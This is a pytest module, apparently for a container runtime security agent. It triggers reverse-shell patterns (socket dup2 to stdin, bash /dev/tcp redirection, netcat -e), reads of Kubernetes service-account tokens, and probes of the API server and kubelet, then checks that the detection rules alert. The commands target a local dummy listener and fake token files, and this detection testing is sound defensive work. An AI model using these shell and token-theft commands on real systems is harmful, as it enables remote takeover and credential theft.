# SPDX-License-Identifier: Apache-2.0
"""Shells that others drive, and hands in a pod that reach for the cluster: each way is really gone, in one
container and on the host, watched by one agent with all default rules. What ordinary work has in common with
them stays quiet.
"""

from __future__ import annotations

import pathlib
import socket
from collections.abc import Iterator

import pytest

from tests.containers import runtime
from tests.story import deeds
from tests.story.agent import Agent
from tests.story.inside import LENDING, PYTHON, Inside

SECRETS = "/run/secrets/kubernetes.io/serviceaccount"
# An image in which /var/run is no link has the secrets there; a container here has both.
ELSEWHERE = f"/var{SECRETS}"
CLIENT = "/opt/kubectl"
# A process that makes a connection its standard input, as an exploit does before it starts a shell.
CONNECT = "import os, socket, sys; s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))"
DUP = f"{CONNECT}; os.dup2(s.fileno(), 0)"


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    """Something listens there and never answers; the backlog takes every connection of this module."""
    with socket.create_server(("127.0.0.1", 0), backlog=128) as listening:
        yield listening.getsockname()[1]


@pytest.fixture(scope="module")
def secrets(tmp_path_factory: pytest.TempPathFactory) -> pathlib.Path:
    """What a kubelet mounts into a pod: links that lead to the files of the newest version."""
    folder = tmp_path_factory.mktemp("secrets")
    (folder / "..2026_11_27").mkdir()
    (folder / "..data").symlink_to("..2026_11_27")
    for name in ("token", "ca.crt"):
        (folder / "..2026_11_27" / name).write_text("nothing")
        (folder / name).symlink_to(f"..data/{name}")
    return folder


@pytest.fixture(scope="module")
def full_id(containerd: runtime.Containerd, secrets: pathlib.Path) -> Iterator[str]:
    mounts = {SECRETS: secrets, ELSEWHERE: secrets, CLIENT: pathlib.Path("/bin/true")}
    options = [f"type=bind,src={one.resolve()},dst={there},options=rbind:ro" for there, one in mounts.items()]
    words = (word for option in options for word in ("--mount", option))
    made = containerd.run("sleep", "1000", options=("--net-host", *LENDING, *words))
    yield made
    containerd.remove(made)


@pytest.fixture(scope="module")
def pod(containerd: runtime.Containerd, container_agent: Agent, full_id: str) -> Inside:
    """One container for the whole module, with the host's network."""
    inside = Inside(containerd, container_agent, full_id)
    inside.run(f"ln -s {PYTHON} /tmp/nginx; ln -s /bin/busybox /tmp/helm; ln -s {CLIENT} /tmp/innocent")
    return inside


@pytest.mark.parametrize(
    ("how", "mark"),
    [
        ("os.dup2(s.fileno(), 0)", "by-dup2"),
        ("import fcntl; os.close(0); fcntl.fcntl(s, fcntl.F_DUPFD, 0)", "by-fcntl"),
    ],
)
def test_a_shell_gets_a_connection_from_the_program_that_starts_it(
    pod: Inside, port: int, how: str, mark: str
) -> None:
    pod.command(
        PYTHON, "-c", f"{CONNECT}; {how}; os.execv('/bin/sh', ['sh', '-c', 'true {mark}'])", str(port)
    )
    pod.alert(
        r"Critical A shell takes its commands from the network \(stdin=127.0.0.1:\d+->127.0.0.1:\d+ "
        rf"evt_type=execve .*command=sh -c true {mark} "
    )


def test_a_shell_takes_a_connection_itself(pod: Inside, port: int) -> None:
    pod.command("/usr/bin/bash", "-c", f"exec 5<>/dev/tcp/127.0.0.1/{port}; exec 0<&5")
    pod.alert(
        r"Critical A shell takes its commands from the network \(stdin=127.0.0.1\S+ evt_type=dup2 "
        r".*process=bash "
    )


@pytest.mark.parametrize(
    "how", ["os.dup2(s.fileno(), 0)", "import fcntl; os.close(0); fcntl.fcntl(s, fcntl.F_DUPFD, 0)"]
)
def test_a_shell_gets_a_connection_on_the_host(container_agent: Agent, port: int, how: str) -> None:
    mark = deeds.marker()
    deeds.python(f"{CONNECT}; {how}; os.execv('/bin/sh', ['sh', '-c', ':', sys.argv[2]])", str(port), mark)
    container_agent.alerts.wait(rf"Critical A shell takes its commands from the network .*{mark} ")


@pytest.mark.parametrize("tool", ["/bin/nc", "/bin/busybox nc"])
def test_netcat_runs_a_program(pod: Inside, port: int, tool: str) -> None:
    pod.command(*tool.split(), "127.0.0.1", str(port), "-e", "/bin/true", tool.rsplit("/", maxsplit=1)[-1])
    pod.alert(
        r"Critical A network tool was told to run a program "
        rf".*command=.* -e /bin/true {tool.rsplit('/', maxsplit=1)[-1]} "
    )


def test_netcat_gives_a_connection_to_a_shell(pod: Inside, port: int) -> None:
    pod.command("/bin/nc", "127.0.0.1", str(port), "-e", "/bin/sh", "-c", "true from-netcat")
    pod.alert(r"Critical A shell takes its commands from the network .*command=sh -c true from-netcat ")


@pytest.mark.parametrize("name", ["busybox", "nc"])
def test_netcat_runs_a_program_on_the_host(
    container_agent: Agent, port: int, tmp_path: pathlib.Path, name: str
) -> None:
    """As a part of busybox, and by a link that has its name."""
    mark = deeds.marker()
    (tmp_path / name).symlink_to("/bin/busybox")
    part = ("nc",) if name == "busybox" else ()
    deeds.command(str(tmp_path / name), *part, "127.0.0.1", str(port), "-e", "/bin/true", mark)
    container_agent.alerts.wait(rf"Critical A network tool was told to run a program .*{mark} ")


@pytest.mark.parametrize(
    ("code", "started"),
    [
        ("os.system('true by-system')", "sh -c (-- )?true by-system"),
        (
            (
                "child = os.fork()\n"
                "if not child and os.fork() == 0: os.execv('/bin/sh', ['sh', '-c', 'true orphan'])\n"
                "if not child: os._exit(0)\n"
                "os.waitpid(child, 0)"
            ),
            "sh -c true orphan",
        ),
        (
            f"os.waitpid(os.posix_spawn({PYTHON!r}, ['python3', '-c', 'spawned=1'], {{}}), 0)",
            "python3 -c spawned=1",
        ),
    ],
    ids=["a shell", "a shell that is nobody's child", "a program for an interpreter"],
)
def test_a_server_starts_a_shell(pod: Inside, code: str, started: str) -> None:
    pod.command("/tmp/nginx", "-c", f"import os\n{code}")
    pod.alert(rf"Notice A server started a shell \(server=nginx .*command={started} ")


@pytest.mark.parametrize(
    ("script", "process"),
    [
        (f"cat {SECRETS}/token", "(cat|exe)"),
        (f"read word < {SECRETS}/..data/token || true", "sh"),
        (f"ln -s {SECRETS} /tmp/here; head -c 3 /tmp/here/token", "(head|exe|sh)"),
    ],
)
def test_a_token_is_read_by_hand(pod: Inside, script: str, process: str) -> None:
    pod.run(script)
    pod.alert(
        rf"Warning A token of the cluster was read by hand \(file={SECRETS}/..2026_11_27/token "
        rf".*process={process} "
    )


def test_a_token_is_read_where_the_image_has_it(pod: Inside) -> None:
    pod.run(f"cp {ELSEWHERE}/token /tmp/copy")
    pod.alert(rf"Warning A token of the cluster was read by hand \(file={ELSEWHERE}/..2026_11_27/token ")


def test_a_token_is_read_by_a_program_at_a_terminal(pod: Inside) -> None:
    pod.at_a_terminal(f"print(len(open('{SECRETS}/token').read()))")
    pod.alert(r"Warning A token of the cluster was read by hand .*process=python3 .*terminal=[1-9]")


@pytest.mark.parametrize(
    ("command", "process"),
    [
        (("/usr/bin/bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/6443 || true"), "bash"),
        (("sh", "-c", "nc -w 1 127.0.0.1 6443 < /dev/null || true"), "(nc|exe)"),
        (
            ("sh", "-c", "KUBERNETES_SERVICE_HOST=127.0.0.1 nc -w 1 127.0.0.1 443 < /dev/null || true"),
            "(nc|exe)",
        ),
    ],
)
def test_the_api_server_is_asked_by_hand(pod: Inside, command: tuple[str, ...], process: str) -> None:
    pod.command(*command)
    pod.alert(
        rf"Notice The API server was asked by hand \(connection=\S+:(6)?443 result=\w+ .*process={process} "
    )


def test_the_api_server_is_asked_at_a_terminal(pod: Inside) -> None:
    """By a program of the image, which is left alone where nobody types."""
    pod.at_a_terminal("import socket; socket.socket().connect_ex(('127.0.0.1', 6443))")
    pod.alert(r"Notice The API server was asked by hand .*process=python3 .*terminal=[1-9]")


@pytest.mark.parametrize(("command", "process"), [("/tmp/helm", "helm"), ("/tmp/innocent", "innocent")])
def test_a_cluster_client_is_started(pod: Inside, command: str, process: str) -> None:
    """By its name, and by its path under another name."""
    pod.run(f"{command} || true")
    pod.alert(rf"Notice A client of the cluster was started in a container .*process={process} ")


@pytest.mark.parametrize(
    ("command", "port_of_kubelet"),
    [
        (("/usr/bin/bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/10250 || true"), 10250),
        ((PYTHON, "-c", "import socket; print(socket.socket().connect_ex(('127.0.0.1', 10255)))"), 10255),
    ],
)
def test_a_kubelet_is_asked(pod: Inside, command: tuple[str, ...], port_of_kubelet: int) -> None:
    pod.command(*command)
    pod.alert(rf"Warning A kubelet was asked from a container \(connection=\S+:{port_of_kubelet} ")


def test_ordinary_work_is_quiet(pod: Inside, port: int) -> None:
    """Shells behind pipes and beside connections, servers with workers, clients of the image, other ports."""
    pod.said()
    pod.command("/usr/bin/bash", "-c", f"exec 5<>/dev/tcp/127.0.0.1/{port}; echo hello | sh -c :")
    pod.run(f"nc -w 1 127.0.0.1 1 < /dev/null || true; cat {SECRETS}/ca.crt; ls {SECRETS}/")
    pod.command(PYTHON, "-c", f"{DUP}; os.execv('/bin/true', ['true'])", str(port))
    pod.command("/tmp/nginx", "-c", "import os; os.waitpid(os.posix_spawn('/bin/true', ['true'], {}), 0)")
    pod.run(
        f"""echo "import socket; open('{SECRETS}/token').read()
for port in (6443, 10256, 8443): socket.socket().connect_ex(('127.0.0.1', port))" > /tmp/client.py"""
    )
    pod.command(PYTHON, "/tmp/client.py")
    pod.run("KUBERNETES_SERVICE_HOST=192.0.2.1 nc -w 1 127.0.0.1 443 < /dev/null || true")
    assert pod.said() == []
